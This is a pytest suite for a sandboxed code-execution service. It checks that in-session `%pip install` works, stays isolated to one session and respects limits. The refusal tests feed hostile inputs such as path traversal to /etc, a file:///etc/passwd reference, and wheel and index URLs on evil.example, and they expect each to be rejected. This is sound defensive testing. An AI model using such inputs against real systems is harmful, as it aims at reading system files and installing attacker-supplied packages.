"""`%pip install` in a live session: the host fetches wheels, the sandbox only sees files.

Against real runsc, with small pure-Python wheels from the package index.
"""

from __future__ import annotations

import os

import httpx
import pytest

import cloche
from cloche.client.tcp import TCPClient
from cloche.sandbox.bundle import SITE_MOUNT
from packages.conftest import sandbox_of


def ok(execution: cloche.Execution) -> str:
    assert execution.error is None, execution.error
    assert execution.status == "ok", execution
    return execution.logs.stdout


def refused(execution: cloche.Execution, match: str) -> str:
    assert execution.error is not None, execution
    assert execution.error.ename == "PackageInstallError", execution.error
    assert match in execution.error.evalue, execution.error.evalue
    return execution.error.evalue


def test_pip_install_then_import_in_the_same_cell(session):
    out = ok(
        session.run("%pip install humanize\nimport humanize\nprint(humanize.intcomma(1234567))")
    )
    assert "Successfully installed humanize-" in out
    assert out.endswith("1,234,567\n")
    where = session.run("humanize.__file__").text
    assert where is not None and where.strip("'").startswith(SITE_MOUNT)


def test_bang_pip_quiet_and_python_m_pip_are_understood(session):
    out = ok(
        session.run("!pip install -q six\n!python -m pip install -q tabulate\nimport six, tabulate")
    )
    assert out == ""


def test_a_second_session_does_not_see_the_package(pkg_server, session):
    ok(session.run("%pip install -q humanize\nimport humanize"))
    with cloche.Client(f"http://127.0.0.1:{pkg_server.http_port}") as client:
        with client.create_session() as other:
            execution = other.run("import humanize")
    assert execution.error is not None and execution.error.ename == "ModuleNotFoundError"


def test_the_sandbox_has_only_loopback_after_an_install(session):
    ok(session.run("%pip install -q humanize"))
    code = (
        "import socket\n"
        "names = [l.split(':')[0].strip() for l in open('/proc/net/dev').read().splitlines()[2:]]\n"
        "try:\n"
        "    socket.create_connection(('151.101.0.223', 443), timeout=3).close()\n"
        "    reached = True\n"
        "except OSError:\n"
        "    reached = False\n"
        "names, reached"
    )
    assert session.run(code).text == "(['lo'], False)"


def test_what_the_runtime_has_is_not_fetched_again(pkg_server, session):
    out = ok(session.run("%pip install numpy\nimport numpy\nnumpy.__file__"))
    assert "Requirement already satisfied: numpy" in out
    assert "Successfully installed" not in out
    site = sandbox_of(pkg_server, session.id).site_dir
    assert not any(name.startswith("numpy") for name in os.listdir(site))


@pytest.mark.parametrize(
    ("line", "match"),
    [
        ("%pip install cloche-no-such-package-3f9a1c", "no package cloche-no-such-package-3f9a1c"),
        ("%pip install docopt", "only source distributions (sdists)"),  # sdist-only on PyPI
        ("%pip install ../../etc", "only package names and versions"),
        ("%pip install 'x @ file:///etc/passwd'", "only package names and versions"),
        ("!pip install https://evil.example/x-1.0-py3-none-any.whl", "only package names"),
        ("%pip install --index-url=https://evil.example/simple six", "not available"),
        ("%pip install -i https://evil.example/simple six", "not available"),
        ("%pip uninstall six", "only `pip install"),
    ],
)
def test_a_refusal_is_a_package_install_error_and_the_session_is_intact(session, line, match):
    ok(session.run("kept = 41"))
    execution = session.run(f"{line}\nkept = 0")
    refused(execution, match)
    assert session.run("kept + 1").text == "42"


def test_an_install_over_the_size_limit_is_refused_and_nothing_is_written(packages_server):
    server = packages_server(max_mib=1)
    with cloche.Client(f"http://127.0.0.1:{server.http_port}") as client:
        with client.create_session() as session:
            ok(session.run("kept = 41"))
            message = refused(session.run("%pip install pygments"), "--package-max-mib")
            assert "over the limit of 1 MiB" in message
            assert session.run("kept + 1").text == "42"
            assert os.listdir(sandbox_of(server, session.id).site_dir) == []


def test_packages_off_and_the_allow_list(packages_server):
    off = packages_server(enabled=False)
    with cloche.Client(f"http://127.0.0.1:{off.http_port}") as client:
        with client.create_session() as session:
            refused(session.run("%pip install six"), "--packages off")
    listed = packages_server(allow_list=frozenset({"six"}))
    with cloche.Client(f"http://127.0.0.1:{listed.http_port}") as client:
        with client.create_session() as session:
            refused(session.run("%pip install humanize"), "allow-list")
            ok(session.run("%pip install -q six\nimport six"))


def test_http_route_and_sdk_install(pkg_server, session):
    installed = session.install("tabulate==0.10.0")
    assert installed == [{"name": "tabulate", "version": "0.10.0"}]
    assert session.run("import tabulate; tabulate.__version__").text == "'0.10.0'"
    assert session.install("tabulate") == []  # already there
    with pytest.raises(cloche.PackageInstallError, match="no package"):
        session.install("cloche-no-such-package-3f9a1c")
    response = httpx.post(
        f"http://127.0.0.1:{pkg_server.http_port}/v1/sessions/{session.id}/packages",
        json={"packages": ["--index-url=https://evil.example"]},
    )
    assert response.status_code == 422
    assert response.json()["error"]["type"] == "package_install"
    response = httpx.post(
        f"http://127.0.0.1:{pkg_server.http_port}/v1/sessions/{session.id}/packages",
        json={"packages": []},
    )
    assert response.status_code == 400
    assert session.run("execution_count_is_untouched = 1").execution_count == 2


def test_a_second_install_comes_from_the_cache(pkg_server):
    metrics = pkg_server.server.manager.metrics

    def cached() -> float:
        return metrics.package_wheels.labels("cache")._value.get()

    with cloche.Client(f"http://127.0.0.1:{pkg_server.http_port}") as client:
        with client.create_session() as first:
            ok(first.run("%pip install -q humanize"))
        before = cached()
        with client.create_session() as second:
            ok(second.run("%pip install -q humanize\nimport humanize"))
    assert cached() == before + 1
    scraped = httpx.get(f"http://127.0.0.1:{pkg_server.http_port}/metrics").text
    assert 'cloche_package_installs_total{outcome="ok"}' in scraped
    assert "cloche_package_bytes_total" in scraped


def test_the_cells_clock_waits_while_the_host_installs(packages_server, tmp_path):
    """A cold install (resolve + download) takes longer than this server's 1 s cells."""
    from cloche.config import Limits, PackageConfig
    from support import ServerThread, make_config

    limits = Limits(cell_timeout_s=1.0, interrupt_grace_s=1.0)
    packages = PackageConfig(cache_dir=tmp_path / "cold-cache")
    config = make_config(tmp_path / "state", pool_size=1, limits=limits, packages=packages)
    with ServerThread(config) as server:
        # The TCP client waits as long as it is told (the SDK: the cell's limit plus 30 s).
        with TCPClient("127.0.0.1", server.tcp_port, timeout_s=300) as client:
            reply = client.run("%pip install -q humanize tabulate\nimport humanize\n'ok'")
        assert reply["status"] == "ok", reply
        assert reply["output"] == "'ok'\n"


def test_an_install_can_be_interrupted_and_the_session_lives_on(pkg_server, session):
    import threading
    import time

    ok(session.run("kept = 41"))
    kernel = pkg_server.server.manager._sessions[session.id].kernel
    outcome: list[cloche.Execution] = []
    cell = threading.Thread(
        target=lambda: outcome.append(session.run("%pip install -q cloche-no-such-package-7e2\n"))
    )
    cell.start()
    deadline = time.monotonic() + 60
    while not (kernel.pip._task is not None and not kernel.pip._task.done()):
        assert time.monotonic() < deadline, "the install never started"
        time.sleep(0.01)
    assert session.interrupt()
    cell.join(60)
    assert outcome and outcome[0].status == "interrupted", outcome
    assert session.run("kept + 1").text == "42"


def test_the_unsafe_local_backend_installs_into_its_site_directory_too(tmp_path, package_cache):
    from cloche.config import PackageConfig
    from support import ServerThread, make_config

    config = make_config(
        tmp_path,
        backend="unsafe-local",
        pool_size=1,
        packages=PackageConfig(cache_dir=package_cache),
    )
    with ServerThread(config) as server, server.client() as client:
        reply = client.run("%pip install -q humanize\nimport humanize\nhumanize.__file__")
        assert reply["status"] == "ok", reply
        site = sandbox_of(server, reply["session_id"]).site_dir
        assert reply["output"].strip().strip("'").startswith(str(site))
